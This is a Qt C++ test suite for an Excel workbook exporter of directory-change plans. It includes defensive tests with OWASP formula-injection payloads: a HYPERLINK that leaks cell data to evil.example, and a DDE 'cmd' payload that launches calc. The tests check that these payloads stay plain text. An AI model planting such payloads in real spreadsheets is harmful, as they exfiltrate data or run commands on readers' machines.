// The plan as an Excel workbook: a complete OOXML package, one row per attribute change in the
// order shown, hostile text kept as text (never a formula), Excel's limits kept, and a workbook
// that LibreOffice reads back to the same cells.
#include "app/export/planxlsx.h"
#include "app/export/xlsxcell.h"
#include "app/export/xlsxwriter.h"
#include "xlsxsheet.h"

#include <QBuffer>
#include <QDir>
#include <QProcess>
#include <QStandardPaths>
#include <QTemporaryDir>
#include <QTest>

using namespace Tenure;
using Models::Category;
using Models::OperationKind;

namespace {

constexpr int Columns = 11;

Models::Operation operation(Category category, OperationKind kind, const QString& worker, const QString& name,
                            QList<Models::AttributeChange> changes = {}, const QString& reason = {})
{
    Models::Operation op;
    op.category = category;
    op.kind = kind;
    op.workerId = worker;
    op.displayName = name;
    op.targetId = QStringLiteral("uid=%1,ou=People,dc=example,dc=test").arg(worker);
    op.changes = std::move(changes);
    op.reason = reason;
    return op;
}

Models::Plan samplePlan()
{
    Models::Plan plan;
    plan.tenant = QStringLiteral("Directory");
    plan.createdAt = QDateTime(QDate(2025, 6, 2), QTime(9, 30), Qt::UTC);
    plan.operations = {
        operation(Category::Mover, OperationKind::Update, QStringLiteral("00042"), QStringLiteral("Bo Šimůnek"),
                  {{QStringLiteral("title"), {QStringLiteral("Engineer")}, {QStringLiteral("Lead Engineer")},
                    QStringLiteral("Title")},
                   {QStringLiteral("l"), {QStringLiteral("Lyon")}, {}, QStringLiteral("Location")}},
                  QStringLiteral("Changed in HR")),
        operation(Category::Joiner, OperationKind::Create, QStringLiteral("1003"), QStringLiteral("Cy Ng"),
                  {{QStringLiteral("uid"), {}, {QStringLiteral("cng")}, QStringLiteral("WorkerID")}},
                  QStringLiteral("New in HR")),
        operation(Category::Error, OperationKind::None, QStringLiteral("1005"), QString(), {},
                  QStringLiteral("Line 6: HireDate is missing")),
    };
    return plan;
}

struct Written {
    QHash<QString, QByteArray> parts;
    App::PlanExportSummary summary;
};

Written write(const App::PlanSelection& selection)
{
    QByteArray bytes;
    QBuffer buffer(&bytes);
    buffer.open(QIODevice::WriteOnly);
    auto summary = App::writePlanXlsx(buffer, selection);
    if (!summary)
        qFatal("writePlanXlsx failed: %s", qPrintable(summary.error().describe()));
    auto entries = Tests::readZip(bytes);
    if (!entries)
        qFatal("the workbook is not a valid ZIP: %s", qPrintable(entries.error()));
    return {Tests::parts(*entries), *summary};
}

} // namespace

class TestPlanXlsx : public QObject {
    Q_OBJECT

private Q_SLOTS:
    void theWorkbookIsACompletePackage()
    {
        const auto written = write(App::PlanSelection::whole(samplePlan(), 12));
        for (const char* name : {"[Content_Types].xml", "_rels/.rels", "xl/workbook.xml", "xl/_rels/workbook.xml.rels",
                                 "xl/styles.xml", "docProps/core.xml", "xl/worksheets/sheet1.xml",
                                 "xl/worksheets/sheet2.xml"}) {
            const QString part = QString::fromLatin1(name);
            QVERIFY2(written.parts.contains(part), name);
            QXmlStreamReader xml(written.parts.value(part));
            while (!xml.atEnd())
                xml.readNext();
            QVERIFY2(!xml.hasError(), qPrintable(part + QStringLiteral(": ") + xml.errorString()));
        }
        const QString types = QString::fromUtf8(written.parts.value(QStringLiteral("[Content_Types].xml")));
        QVERIFY(types.contains(QStringLiteral("/xl/worksheets/sheet2.xml")));
        QVERIFY(types.contains(QStringLiteral("spreadsheetml.sheet.main+xml")));
        const QString workbook = QString::fromUtf8(written.parts.value(QStringLiteral("xl/workbook.xml")));
        QVERIFY(workbook.contains(QStringLiteral("<sheet name=\"Operations\" sheetId=\"1\" r:id=\"rId1\"/>")));
        QVERIFY(workbook.contains(QStringLiteral("<sheet name=\"Summary\" sheetId=\"2\" r:id=\"rId2\"/>")));
        const QString rels = QString::fromUtf8(written.parts.value(QStringLiteral("xl/_rels/workbook.xml.rels")));
        QVERIFY(rels.contains(QStringLiteral("Target=\"styles.xml\"")));
        QCOMPARE(written.summary.parts, 1);
        QCOMPARE(written.summary.rows, 4);
    }

    void theHeaderRowIsStyledFrozenAndFiltered()
    {
        const auto written = write(App::PlanSelection::whole(samplePlan(), 12));
        const QString sheet = QString::fromUtf8(written.parts.value(QStringLiteral("xl/worksheets/sheet1.xml")));
        QVERIFY(sheet.contains(QStringLiteral("<pane ySplit=\"1\" topLeftCell=\"A2\" activePane=\"bottomLeft\" state=\"frozen\"/>")));
        QVERIFY(sheet.contains(QStringLiteral("<autoFilter ref=\"A1:K5\"/>")));
        QVERIFY(sheet.contains(QStringLiteral("<c r=\"A1\" s=\"1\" t=\"inlineStr\"><is><t>Category</t></is></c>")));
        const QString styles = QString::fromUtf8(written.parts.value(QStringLiteral("xl/styles.xml")));
        QVERIFY(styles.contains(QStringLiteral("<b/>")));
        QVERIFY(styles.contains(QStringLiteral("FF1F4E79")));
    }

    void theSheetHasOneRowPerChangeInTheOrderShown()
    {
        auto selection = App::PlanSelection::whole(samplePlan(), 12);
        selection.operations = {2, 0};   // the error first, as a sort might show it
        selection.scope = QStringLiteral("sorted by hand");
        const auto written = write(selection);
        const auto sheet = Tests::parseSheet(written.parts.value(QStringLiteral("xl/worksheets/sheet1.xml")));
        QVERIFY2(sheet.error.isEmpty(), qPrintable(sheet.error));
        QCOMPARE(sheet.rows.size(), 4);   // header, the error, the mover's two changes
        QCOMPARE(Tests::rowTexts(sheet.rows.at(0), Columns).mid(0, 3),
                 (QStringList{QStringLiteral("Category"), QStringLiteral("Operation"), QStringLiteral("Worker")}));
        const auto error = Tests::rowTexts(sheet.rows.at(1), Columns);
        QCOMPARE(error.at(0), QStringLiteral("Error"));
        QCOMPARE(error.at(1), QString());   // nothing to write: no operation named
        QCOMPARE(error.at(9), QStringLiteral("Line 6: HireDate is missing"));
        const auto title = Tests::rowTexts(sheet.rows.at(2), Columns);
        QCOMPARE(title.mid(0, 10), (QStringList{QStringLiteral("Mover"), QStringLiteral("Update"), QStringLiteral("00042"),
                                                QStringLiteral("Bo Šimůnek"),
                                                QStringLiteral("uid=00042,ou=People,dc=example,dc=test"),
                                                QStringLiteral("title"), QStringLiteral("Engineer"),
                                                QStringLiteral("Lead Engineer"), QStringLiteral("Title"),
                                                QStringLiteral("Changed in HR")}));
        const auto removed = Tests::rowTexts(sheet.rows.at(3), Columns);
        QCOMPARE(removed.at(5), QStringLiteral("l"));
        QCOMPARE(removed.at(6), QStringLiteral("Lyon"));
        QCOMPARE(removed.at(7), QString());
        // Every cell is text: "00042" keeps its zeros.
        for (const auto& row : sheet.rows)
            for (const auto& cell : row)
                QCOMPARE(cell.type, QStringLiteral("inlineStr"));
        QCOMPARE(written.summary.operations, 2);
    }

    void theSummaryNamesThePlanItsHashAndCounts()
    {
        const auto plan = samplePlan();
        auto selection = App::PlanSelection::whole(plan, 12);
        selection.operations = {0};
        selection.scope = QStringLiteral("Mover");
        const auto written = write(selection);
        const auto sheet = Tests::parseSheet(written.parts.value(QStringLiteral("xl/worksheets/sheet2.xml")));
        QVERIFY2(sheet.error.isEmpty(), qPrintable(sheet.error));
        QHash<QString, QStringList> byLabel;
        for (const auto& row : sheet.rows) {
            const auto texts = Tests::rowTexts(row, 3);
            byLabel.insert(texts.at(0), texts);
        }
        QCOMPARE(byLabel.value(QStringLiteral("Plan")).at(1), QStringLiteral("12"));
        QCOMPARE(byLabel.value(QStringLiteral("SHA-256 of the operations")).at(1), QString::fromLatin1(plan.hash().toHex()));
        QCOMPARE(byLabel.value(QStringLiteral("Selection")).at(1), QStringLiteral("Mover"));
        QCOMPARE(byLabel.value(QStringLiteral("Operations")).mid(1), (QStringList{QStringLiteral("3"), QStringLiteral("1")}));
        QCOMPARE(byLabel.value(QStringLiteral("Mover")).mid(1), (QStringList{QStringLiteral("1"), QStringLiteral("1")}));
        QCOMPARE(byLabel.value(QStringLiteral("Joiner")).mid(1), (QStringList{QStringLiteral("1"), QStringLiteral("0")}));
        QCOMPARE(byLabel.value(QStringLiteral("Rehire")).mid(1), (QStringList{QStringLiteral("0"), QStringLiteral("0")}));
    }

    // OWASP's CSV-injection payloads and XML's troublemakers: each comes back exactly as it was
    // (or as the documented substitute), as an inline string, with no formula anywhere.
    void hostileTextStaysText_data()
    {
        QTest::addColumn<QString>("value");
        QTest::addColumn<QString>("expected");
        const auto same = [](const QString& text) { QTest::newRow(qPrintable(text.left(20))) << text << text; };
        same(QStringLiteral("=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")"));
        same(QStringLiteral("=cmd|' /C calc'!A0"));
        same(QStringLiteral("+1+1"));
        same(QStringLiteral("-2+3"));
        same(QStringLiteral("@SUM(A1:A9)"));
        same(QStringLiteral("\t=1"));
        same(QStringLiteral("</t></is></c><c><f>1+1</f></c>"));
        same(QStringLiteral("Tom & Jerry <tj@example.test>"));
        same(QStringLiteral("_x0041_ stays as typed"));
        same(QStringLiteral(" padded "));
        same(QStringLiteral("two\nlines\r\nand a CR"));
        same(QString::fromUtf8("emoji 👩‍💻 and ü"));
        QTest::newRow("control characters") << QStringLiteral("a\u0001b\u001Fc\u000B") << QStringLiteral("a\u0001b\u001Fc\u000B");
        QTest::newRow("lone surrogate") << (QStringLiteral("x") + QChar(0xD800) + QStringLiteral("y"))
                                        << (QStringLiteral("x") + QChar(0xFFFD) + QStringLiteral("y"));
        const QString longText = QString(40000, u'a');
        QTest::newRow("longer than Excel keeps")
            << longText << (QString(App::XlsxMaxCellText - 1, u'a') + QChar(0x2026));
    }
    void hostileTextStaysText()
    {
        QFETCH(QString, value);
        QFETCH(QString, expected);
        Models::Plan plan = samplePlan();
        plan.operations = {operation(Category::Mover, OperationKind::Update, QStringLiteral("7"), value,
                                     {{QStringLiteral("title"), {QStringLiteral("A")}, {value}, value}}, value)};
        const auto written = write(App::PlanSelection::whole(plan, 1));
        const QByteArray xml = written.parts.value(QStringLiteral("xl/worksheets/sheet1.xml"));
        const auto sheet = Tests::parseSheet(xml);
        QVERIFY2(sheet.error.isEmpty(), qPrintable(sheet.error));
        QVERIFY(!sheet.hasFormula);
        QCOMPARE(sheet.rows.size(), 2);
        const auto cells = sheet.rows.at(1);
        const auto texts = Tests::rowTexts(cells, Columns);
        for (const int column : {3, 7, 8, 9}) {   // name, after, why, reason
            QCOMPARE(texts.at(column), expected);
        }
        for (const auto& cell : cells)
            QCOMPARE(cell.type, QStringLiteral("inlineStr"));
    }

    void excelsRowLimitIsKept()
    {
        QByteArray bytes;
        QBuffer buffer(&bytes);
        QVERIFY(buffer.open(QIODevice::WriteOnly));
        App::XlsxWriter xlsx(buffer, {}, QStringLiteral("limit"));
        QVERIFY(xlsx.beginSheet(QStringLiteral("Rows"), {{QStringLiteral("n"), 8}}));
        const QStringList row{QStringLiteral("x")};
        while (xlsx.rowsLeft() > 0)
            QVERIFY(xlsx.addRow(row));
        const auto refused = xlsx.addRow(row);
        QVERIFY(!refused);
        QVERIFY(refused.error().message.contains(QStringLiteral("1,048,576")));
        QVERIFY(xlsx.endSheet());
        QVERIFY(xlsx.finish());
        const auto entries = Tests::readZip(bytes);
        QVERIFY2(entries, entries ? "" : qPrintable(entries.error()));
        QVERIFY(Tests::parts(*entries).value(QStringLiteral("xl/worksheets/sheet1.xml"))
                    .contains("<autoFilter ref=\"A1:A1048576\"/>"));
    }

    void sheetNamesExcelRefusesAreRefused_data()
    {
        QTest::addColumn<QString>("name");
        QTest::newRow("empty") << QString();
        QTest::newRow("too long") << QString(32, u'a');
        QTest::newRow("slash") << QStringLiteral("a/b");
        QTest::newRow("bracket") << QStringLiteral("[a]");
        QTest::newRow("apostrophe") << QStringLiteral("'a");
    }
    void sheetNamesExcelRefusesAreRefused()
    {
        QFETCH(QString, name);
        QByteArray bytes;
        QBuffer buffer(&bytes);
        QVERIFY(buffer.open(QIODevice::WriteOnly));
        App::XlsxWriter xlsx(buffer, {}, {});
        const auto begun = xlsx.beginSheet(name, {{QStringLiteral("a"), 8}});
        QVERIFY(!begun);
        QCOMPARE(begun.error().code, Models::ErrorCode::InvalidInput);
    }

    void aCancelledExportStops()
    {
        Models::CancelToken cancel;
        cancel.cancel();
        QByteArray bytes;
        QBuffer buffer(&bytes);
        QVERIFY(buffer.open(QIODevice::WriteOnly));
        const auto written = App::writePlanXlsx(buffer, App::PlanSelection::whole(samplePlan(), 1), cancel);
        QVERIFY(!written);
        QCOMPARE(written.error().code, Models::ErrorCode::Cancelled);
    }

    // The real reader: LibreOffice converts the workbook's first sheet to CSV, which must hold
    // the same cells. Skipped where LibreOffice is not installed (it is not a build dependency).
    void libreOfficeReadsTheSameCells()
    {
        QString office = QStandardPaths::findExecutable(QStringLiteral("soffice"));
        if (office.isEmpty())
            office = QStandardPaths::findExecutable(QStringLiteral("libreoffice"));
        if (office.isEmpty())
            QSKIP("LibreOffice is not installed");
        QTemporaryDir dir;
        auto plan = samplePlan();
        plan.operations[1].displayName = QStringLiteral("=1+1");
        QFile file(dir.filePath(QStringLiteral("plan.xlsx")));
        QVERIFY(file.open(QIODevice::WriteOnly));
        QVERIFY(App::writePlanXlsx(file, App::PlanSelection::whole(plan, 3)));
        file.close();
        QProcess process;
        process.setWorkingDirectory(dir.path());
        // Its own profile: a first start in a fresh HOME must not touch the tester's.
        process.start(office, {QStringLiteral("-env:UserInstallation=file://") + dir.filePath(QStringLiteral("profile")),
                               QStringLiteral("--headless"), QStringLiteral("--convert-to"),
                               QStringLiteral("csv:Text - txt - csv (StarCalc):44,34,76"), QStringLiteral("--outdir"),
                               dir.path(), file.fileName()});
        QVERIFY(process.waitForFinished(120000));
        QFile csv(dir.filePath(QStringLiteral("plan.csv")));
        QVERIFY2(csv.open(QIODevice::ReadOnly), process.readAllStandardError().constData());
        const QStringList lines = QString::fromUtf8(csv.readAll()).split(QLatin1Char('\n'), Qt::SkipEmptyParts);
        QCOMPARE(lines.size(), 5);
        QVERIFY(lines.at(0).startsWith(QStringLiteral("Category,Operation,Worker,Name,Target,Attribute,Before,After")));
        QVERIFY2(lines.at(1).startsWith(QStringLiteral("Mover,Update,00042,Bo Šimůnek,")), qPrintable(lines.at(1)));
        // The formula is text: LibreOffice shows it as typed, not as 2.
        QVERIFY2(lines.at(3).startsWith(QStringLiteral("Joiner,Create,1003,=1+1,")), qPrintable(lines.at(3)));
    }
};

QTEST_GUILESS_MAIN(TestPlanXlsx)
#include "tst_planxlsx.moc"
